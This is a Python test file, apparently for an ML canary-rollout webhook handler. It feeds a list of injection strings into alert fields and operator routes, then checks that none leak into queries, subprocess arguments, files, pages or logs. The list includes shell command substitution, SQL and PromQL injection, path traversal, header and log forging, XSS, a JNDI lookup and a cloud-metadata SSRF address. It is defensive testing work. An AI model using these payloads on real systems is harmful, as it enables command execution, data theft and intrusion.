"""Hostile text in every place of a delivery: it reaches no query, no address, no program, no page and no log as it is.

Each hostile text carries the word EVIL, so that any of them is found wherever it turns up.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import re
import stat
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import msgspec
import pytest
from aiohttp import web

from handler_service import Handle, handling
from handler_world import BAD, GOOD, MODEL, QueryAPI, Release, alert, configuration, payload, until
from loopback_server import loopback
from mlcanary.cli.options import _LineFormatter

HOSTILE = [
    'v2"} or vector(1) or {EVIL="',
    'v2\\"} or EVIL',
    "v2'; DROP TABLE event; --EVIL",
    "v2$(touch EVIL)",
    "v2`touch EVIL`",
    "v2;touch EVIL",
    "v2|touch EVIL",
    "v2&&touch${IFS}EVIL",
    "--EVIL=1 ",
    "../../../../tmp/EVIL",
    "/etc/EVIL\x00",
    "%2e%2e%2fEVIL",
    "v2\r\nX-EVIL: 1",
    "v2\nlevel=error msg=EVIL",
    "\x1b[31mEVIL\x1b[0m\x07",
    "<script>EVIL()</script>",
    '"><img src=x onerror=EVIL()>',
    "{{ EVIL }}",
    "${jndi:ldap://EVIL.test/x}",
    "http://169.254.169.254/EVIL",
    "EVIL\u202e\u200b\u0000",
    "\uff45vil\uff25\uff36\uff29\uff2c EVIL",
    "\U0001f4a3EVIL",
    "EVIL" + "x" * 20_000,
    "",
]
LABELS = ["alertname", "action", "measure", "window", "severity", "model", "version", "cluster", "namespace", "other"]
FIELDS = ["status", "fingerprint", "startsAt", "endsAt", "generatorURL"]
OF_PAYLOAD = ["groupKey", "receiver", "externalURL", "status", "version", "notification_reason"]


def deliveries() -> list[bytes]:
    """Every hostile text in every place, and as the name of a label."""
    found = []
    for text in HOSTILE:
        found += [payload(alert(**{label: text})) for label in LABELS]
        found += [payload({**alert(), name: text}) for name in FIELDS]
        found += [payload(**{name: text}) for name in OF_PAYLOAD]
        odd = alert()
        odd["labels"] = {**alert()["labels"], text: "x"}  # type: ignore[dict-item]  # the labels are a mapping
        found.append(payload({**odd, "annotations": {text: text}}, commonLabels={text: text}, groupLabels={text: text}))
    found += [
        payload().replace(b'"v2"', raw) for raw in (b'"\xff\xfe"', b'"\\ud800EVIL"', b'{"EVIL":1}', b"[1]", b"null")
    ]
    return found


@dataclass
class Outside:
    """What the handler's neighbours got from it."""

    directory: Path
    paths: list[str] = field(default_factory=list)
    bodies: list[bytes] = field(default_factory=list)
    active: str = BAD

    @property
    def script(self) -> Path:
        return self.directory / "roll"

    def prepare(self) -> None:
        """A program that writes down what it was started with."""
        self.script.write_text(
            '#!/bin/sh\n{ for word in "$@"; do echo "$word"; done; '
            f"/usr/bin/env; /bin/cat; echo; }} >> {self.directory}/ran\n"
        )
        self.script.chmod(self.script.stat().st_mode | stat.S_IXUSR)

    async def order(self, request: web.Request) -> web.Response:
        self.paths.append(f"{request.path_qs} {dict(request.headers)}")
        self.bodies.append(await request.read())
        self.active = GOOD
        return web.Response()

    async def told(self, request: web.Request) -> web.Response:
        self.paths.append(f"{request.path_qs} {dict(request.headers)}")
        return web.json_response(self.active)

    def shares(self) -> dict[str, float]:
        return {v: 0.95 if v == self.active else 0.05 * (v == GOOD) for v in (GOOD, BAD)}

    def everything(self) -> str:
        """All that was seen."""
        ran = self.directory / "ran"
        texts = [*self.paths, *(body.decode() for body in self.bodies), ran.read_text() if ran.exists() else ""]
        return "\n".join(texts)


@pytest.fixture
async def outside(tmp_path: Path) -> AsyncIterator[tuple[Outside, str]]:
    found = Outside(tmp_path)
    found.prepare()
    async with loopback(web.post("/roll", found.order), web.get("/roll", found.told)) as url:
        yield found, f"{url}/roll"


def two_targets(prometheus: str, outside: Outside, url: str) -> str:
    """A target behind HTTP, and one behind a program."""
    http = f"{{type: http, url: '{url}', versions: {{v1: v1, v2: v2}}, fields: [action_id, version, weights],"
    http += f" read_back: {{url: '{url}'}}}}"
    program = f"{{type: command, argv: [{outside.script}, --to], versions: [v1, v2]}}"
    second = f"- name: script\n  model: {MODEL}\n  target: {program}\n"
    return configuration(prometheus, http, extra=second)


def is_clean(text: str) -> bool:
    """Whether no hostile text is in it."""
    return "EVIL" not in text and "169.254" not in text


async def test_no_hostile_text_leaves_the_handler(
    outside: tuple[Outside, str], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    world, url = outside
    async with QueryAPI(Release(world.shares)).serving() as api:
        async with handling(tmp_path, two_targets(api.url, world, url)) as handler:
            answers = await asyncio.gather(*map(handler.post, deliveries()))
            assert set(answers) <= {202, 400}
            assert answers.count(202) > 100
            assert await handler.post(payload()) == 202
            await until(lambda: world.active == GOOD and (tmp_path / "ran").exists())
            await _operate(handler)
            page, metrics = await handler.get("/"), await handler.get("/metrics")
            assert handler.service.ledger.verify_audit() is None
        assert api.queries
        for query in api.queries:
            assert is_clean(query), query
    assert is_clean(world.everything()), world.everything()[:2000]
    assert "--to" in world.everything()
    assert is_clean(" ".join(os.listdir(tmp_path)))
    assert is_clean(metrics)
    assert "<script" not in page
    assert "<img" not in page
    for record in caplog.records:
        if record.name.startswith("mlcanary"):
            _is_one_plain_line(record)


async def _operate(handler: Handle) -> None:
    """Hostile text in the parameters of the operators' routes."""
    for text in HOSTILE:
        short = quote(text[:2000], safe="")
        assert await handler.post(b"", path=f"/-/freeze?target={short}") == 404
        assert await handler.post(b"", path=f"/-/freeze?target=router&reason={short}") == 200
    assert await handler.post(b"", path="/-/unfreeze?target=router") == 200


def _is_one_plain_line(record: logging.LogRecord) -> None:
    for as_json in (True, False):
        line = _LineFormatter(as_json=as_json).format(record)
        assert re.fullmatch(r"[ -~]*", line), line[:300]
        assert len(line) < 20_000
    assert json.loads(_LineFormatter(as_json=True).format(record))["level"]


def test_a_line_of_the_log_cannot_be_forged() -> None:
    for text in HOSTILE:
        record = logging.LogRecord("mlcanary.x", logging.WARNING, "f", 1, "webhook refused", (), None)
        record.error = text
        _is_one_plain_line(record)
        line = _LineFormatter(as_json=False).format(record)
        assert line.count(" level=") == 1 or '"' in line


async def test_hostile_text_waits_in_the_ledger_as_it_came(outside: tuple[Outside, str], tmp_path: Path) -> None:
    world, url = outside
    kept = [text for text in HOSTILE if len(text) < 4096]
    async with (
        QueryAPI(Release(world.shares, firing=False)).serving() as api,
        handling(tmp_path, two_targets(api.url, world, url)) as handler,
    ):
        for text in kept:
            assert await handler.post(payload(groupKey=text)) == 202
        assert set(await asyncio.gather(*(handler.post(payload(groupKey=text)) for text in kept))) == {202}
        assert handler.count("decisions_total", "router", "suppress", "duplicate") == len(kept)


def test_every_hostile_text_is_hostile() -> None:
    assert all("EVIL" in text for text in HOSTILE if text)
    assert len(deliveries()) == len(HOSTILE) * (len(LABELS) + len(FIELDS) + len(OF_PAYLOAD) + 1) + 5
    with pytest.raises(msgspec.MsgspecError):
        msgspec.json.decode(b'"\\ud800EVIL"')


async def test_a_target_sees_nothing_of_a_delivery_but_configured_names(
    outside: tuple[Outside, str], tmp_path: Path
) -> None:
    world, url = outside
    hostile = {f"label{i}": text for i, text in enumerate(HOSTILE)}
    one = alert(**hostile)
    body = payload(
        {**one, "annotations": hostile, "generatorURL": HOSTILE[0]}, groupKey=HOSTILE[2], receiver=HOSTILE[3]
    )
    async with QueryAPI(Release(world.shares)).serving() as api:
        async with handling(tmp_path, two_targets(api.url, world, url)) as handler:
            assert await handler.post(body) == 202
            await until(lambda: world.active == GOOD and (tmp_path / "ran").exists())
        assert all(is_clean(query) for query in api.queries)
    assert is_clean(world.everything())
    assert b'"version":"v1"' in world.bodies[0]
